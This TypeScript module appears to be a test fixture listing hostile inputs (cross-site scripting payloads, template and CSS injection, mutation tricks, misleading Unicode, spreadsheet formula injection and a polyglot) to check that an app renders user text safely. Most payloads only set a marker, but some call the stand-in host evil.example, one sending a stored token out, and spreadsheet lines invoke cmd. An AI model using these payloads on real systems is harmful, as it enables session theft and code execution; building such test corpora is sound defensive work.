// Texts of an attacker who wants to run code for other users. Each payload that runs sets `__pwned`.

const oneALine = (text: string): string[] => text.trim().split('\n');

const scripts = oneALine(String.raw`
<script>__pwned=1</script>
<ScRiPt>__pwned=1</sCrIpT>
<script src=//evil.example/x.js></script>
<script src="data:text/javascript,__pwned=1"></script>
<script type=module>__pwned=1</script>
<script/x>__pwned=1</script>
<scr<script>ipt>__pwned=1</scr</script>ipt>
<<script>__pwned=1//<</script>
</script><script>__pwned=1</script>
</title><script>__pwned=1</script>
</textarea><script>__pwned=1</script>
--><script>__pwned=1</script>
]]><script>__pwned=1</script>
"><script>__pwned=1</script>
'><script>__pwned=1</script>
');__pwned=1;//
";__pwned=1;//
\";__pwned=1;//
</script><!--<script>__pwned=1
<script>eval(atob('X19wd25lZD0x'))</script>
<script>setTimeout('__pwned=1')</script>
<script>fetch('//evil.example/'+localStorage.token)</script>
<script>import('//evil.example/x.js')</script>
`);

const handlers = oneALine(String.raw`
<img src=x onerror=__pwned=1>
<img src=x onerror="alert(__pwned=1)">
<IMG SRC=x OnErRoR=__pwned=1>
<img/src=x/onerror=__pwned=1>
<img src=x:x onerror=__pwned=1//
"><img src=x onerror=__pwned=1>
'"><img src=x onerror=__pwned=1>
" onmouseover=__pwned=1 x="
' autofocus onfocus=__pwned=1 x='
" style=animation-name:x onanimationstart=__pwned=1 x="
<body onload=__pwned=1>
<body onpageshow=__pwned=1>
<input autofocus onfocus=__pwned=1>
<select autofocus onfocus=__pwned=1>
<textarea autofocus onfocus=__pwned=1>
<details open ontoggle=__pwned=1>
<video src=x onerror=__pwned=1></video>
<video><source onerror=__pwned=1></video>
<audio src=x onerror=__pwned=1></audio>
<marquee onstart=__pwned=1>x</marquee>
<div onpointerenter=__pwned=1>x</div>
<a href=# onclick=__pwned=1>x</a>
<object data=x onerror=__pwned=1>
<iframe onload=__pwned=1></iframe>
<link rel=stylesheet href=x onerror=__pwned=1>
<button popovertarget=x onclick=__pwned=1>x</button>
<dialog open onclose=__pwned=1>x</dialog>
<x contenteditable onbeforeinput=__pwned=1>x</x>
`);

const drawings = oneALine(String.raw`
<svg onload=__pwned=1>
<svg/onload=__pwned=1>
<svg><script>__pwned=1</script></svg>
<svg><script>__pwned&#61;1</script></svg>
<svg><animate onbegin=__pwned=1 attributeName=x dur=1s>
<svg><set onbegin=__pwned=1 attributeName=x to=1>
<svg><a xlink:href="javascript:__pwned=1"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=__pwned=1 />#x"/></svg>
<svg><foreignObject><img src=x onerror=__pwned=1></foreignObject></svg>
<math><maction actiontype=statusline xlink:href="javascript:__pwned=1">x</maction></math>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__pwned=1'/>">
`);

const addresses = oneALine(String.raw`
javascript:__pwned=1
JaVaScRiPt:__pwned=1
java&#9;script:__pwned=1
&#106;avascript:__pwned=1
javascript://evil.example/%0a__pwned=1
vbscript:__pwned=1
data:text/html,<script>__pwned=1</script>
data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=
<a href="javascript:__pwned=1">Florin</a>
<a href="data:text/html,<script>__pwned=1</script>">x</a>
[Florin](javascript:__pwned=1)
![x](x"onerror="__pwned=1)
<iframe src="javascript:__pwned=1"></iframe>
<iframe srcdoc="<script>__pwned=1</script>"></iframe>
<embed src="javascript:__pwned=1">
<object data="data:text/html,<script>__pwned=1</script>">
<form action="javascript:__pwned=1"><button>x</button></form>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<link rel=prefetch href=https://evil.example/>
https://evil.example/?a=<script>__pwned=1</script>
//evil.example/%2f..
`);

const templates = [
  ...oneALine(String.raw`
{{constructor.constructor('__pwned=1')()}}
{{$on.constructor('__pwned=1')()}}
{{7*7}}[[7*7]]
<%= __pwned=1 %>
{% raw %}{{__pwned=1}}{% endraw %}
#{__pwned=1}
{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}
{"__proto__":{"innerHTML":"<img src=x onerror=__pwned=1>"}}
<template shadowrootmode=open><script>__pwned=1</script></template>
<div v-html="'<img src=x onerror=__pwned=1>'">x</div>
<x ng-app ng-csp ng-focus=__pwned=1 autofocus>
`),
  '${__pwned=1}',
  '`-(__pwned=1)-`',
];

const mutations = oneALine(String.raw`
<noscript><p title="</noscript><img src=x onerror=__pwned=1>">
<svg></p><style><a id="</style><img src=1 onerror=__pwned=1>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned=1&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__pwned=1>
<listing>&lt;img src=x onerror=__pwned=1&gt;</listing>
<xmp><img alt="</xmp><img src=x onerror=__pwned=1>"></xmp>
<!--><img src=x onerror=__pwned=1>-->
<![CDATA[<img src=x onerror=__pwned=1>]]>
<?xml version="1.0"?><x onload=__pwned=1/>
&lt;img src=x onerror=__pwned=1&gt;
&amp;lt;script&amp;gt;__pwned=1&amp;lt;/script&amp;gt;
&#60;script&#62;__pwned=1&#60;/script&#62;
&#x3c;script&#x3e;__pwned=1
\u003cscript\u003e__pwned=1\u003c/script\u003e
%3Cscript%3E__pwned=1%3C/script%3E
+ADw-script+AD4-__pwned=1+ADw-/script+AD4-
＜script＞__pwned=1＜/script＞
`);

const styles = oneALine(String.raw`
<style>@import'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example/x)}</style>
</style><style>body{display:none}</style>
<div style="background:url(https://evil.example/x)">
<div style="width:expression(__pwned=1)">
<div style="position:fixed;inset:0;background:red">x</div>
x;}*{display:none
<link rel=stylesheet href=https://evil.example/x.css>
`);

/**
 * Characters that change the text direction, are invisible or end a line: the written text and the shown text. Names
 * and notes drop these characters.
 */
const misleading: readonly (readonly [string, string])[] = [
  ['\u202e<tpircs/>1=denwp__<tpircs>', '<tpircs/>1=denwp__<tpircs>'], // right-to-left override
  ['Ines\u202emoc.live\u202c Almeida', 'Inesmoc.live Almeida'],
  ['\u2066left\u2069 \u2067right\u2069 and on', 'left right and on'],
  ['In\u200bes\u200d Al\u2060meida', 'Ines\u200d Almeida'], // invisible characters
  ['\u{e0001}\u{e0041}tagged', '\u{e0041}tagged'],
  ['a\u2028__pwned=1\u2029b', 'a __pwned=1 b'], // line ends of JavaScript
];

/** Texts that run nothing here, but mislead or run in exported files. */
const letters = [
  ...misleading.map(([written]) => written),
  'e\u0301\u0301\u0301\u0301\u0301\u0301 stacked',
  'مرحبا <b>بالعالم</b> 12.50',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 <i>flags</i>',
  'x'.repeat(100),
  'W'.repeat(99),
  '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '=1+1";=1+1',
  '"quoted","and,comma"',
];

/** Runs in several contexts at once. */
export const polyglot = String.raw`javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+__pwned=1//'>`;

export const hostileTexts: readonly string[] = [
  ...scripts,
  ...handlers,
  ...drawings,
  ...addresses,
  ...templates,
  ...mutations,
  ...styles,
  ...letters,
  polyglot,
];

const shown = new Map(misleading);

/** Returns the shown form of a name or a note of the corpus. */
export const shownText = (written: string): string => shown.get(written) ?? written;

/**
 * Returns the corpus rotated to begin at `start`, without texts longer than the field. So each field starts with a
 * different text.
 */
export const hostileTextsFrom = (start: number, longest: number): string[] =>
  hostileTexts
    .map((_, n) => hostileTexts[(n + start) % hostileTexts.length] ?? '')
    .filter((text) => text.length <= longest);
